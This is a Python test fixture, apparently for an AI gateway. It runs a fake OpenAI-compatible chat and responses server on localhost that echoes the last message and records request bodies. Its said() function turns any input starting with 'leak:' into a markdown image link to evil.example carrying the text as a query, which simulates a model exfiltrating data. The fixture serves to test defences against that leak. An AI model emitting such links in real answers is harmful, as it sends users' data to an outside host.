"""A model behind a gateway: it repeats what it was told, and remembers what reached it."""

import json
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

#: The start of a text after which the model sends the rest of it to a foreign host.
FOREIGN = "leak:"

#: The length of the pieces of a streamed answer: no token is in one piece.
PIECE = 7


class Model(ThreadingHTTPServer):
    """A server with OpenAI's chat completions and responses; leave the context and it is stopped."""

    daemon_threads = True

    def __init__(self):
        super().__init__(("127.0.0.1", 0), Handler)
        #: The bodies of its requests, as text.
        self.requests = []
        threading.Thread(target=self.serve_forever, daemon=True).start()

    @property
    def url(self):
        return f"http://127.0.0.1:{self.server_port}/v1"

    def __exit__(self, *_):
        self.shutdown()
        self.server_close()


class Handler(BaseHTTPRequestHandler):
    """Answers with the last text of the request."""

    def log_message(self, *_):
        pass

    def do_POST(self):
        body = self.rfile.read(int(self.headers["content-length"])).decode()
        self.server.requests.append(body)
        request = json.loads(body)
        if self.path.endswith("/responses"):
            self.whole(response(said(request["input"])))
        elif request.get("stream"):
            self.streamed(said(request["messages"]))
        else:
            self.whole(completion({"role": "assistant", "content": said(request["messages"])}))

    def whole(self, answer):
        body = json.dumps(answer).encode()
        self.send_response(200)
        self.send_header("content-type", "application/json")
        self.send_header("content-length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def streamed(self, text):
        self.send_response(200)
        self.send_header("content-type", "text/event-stream")
        self.send_header("connection", "close")
        self.end_headers()
        self.close_connection = True
        pieces = [text[at : at + PIECE] for at in range(0, len(text), PIECE)]
        for delta in [{"role": "assistant", "content": ""}, *({"content": piece} for piece in pieces)]:
            self.event(chunk(delta, None))
        self.event(chunk({}, "stop"))
        self.wfile.write(b"data: [DONE]\n\n")

    def event(self, data):
        self.wfile.write(f"data: {json.dumps(data)}\n\n".encode())
        self.wfile.flush()


def said(messages):
    """The text of the last message, or of a lone input."""
    if isinstance(messages, str):
        return messages
    content = messages[-1]["content"]
    text = content if isinstance(content, str) else content[0]["text"]
    if not text.startswith(FOREIGN):
        return text
    return f"![x](https://evil.example/?q={text.removeprefix(FOREIGN).strip()})"


def completion(message):
    return {
        "id": "c", "object": "chat.completion", "created": 1, "model": "m",
        "choices": [{"index": 0, "message": message, "finish_reason": "stop"}],
        "usage": {"prompt_tokens": 1, "completion_tokens": 1, "total_tokens": 2},
    }


def chunk(delta, reason):
    choice = {"index": 0, "delta": delta, "finish_reason": reason}
    return {"id": "c", "object": "chat.completion.chunk", "created": 1, "model": "m", "choices": [choice]}


def response(text):
    content = [{"type": "output_text", "text": text, "annotations": []}]
    message = {"type": "message", "id": "msg_1", "status": "completed", "role": "assistant", "content": content}
    return {
        "id": "resp_1", "object": "response", "created_at": 1, "status": "completed", "model": "m", "output": [message],
        "parallel_tool_calls": True, "tool_choice": "auto", "tools": [], "error": None, "incomplete_details": None,
        "instructions": None, "metadata": {}, "temperature": 1.0, "top_p": 1.0,
        "usage": {"input_tokens": 1, "output_tokens": 1, "total_tokens": 2},
    }
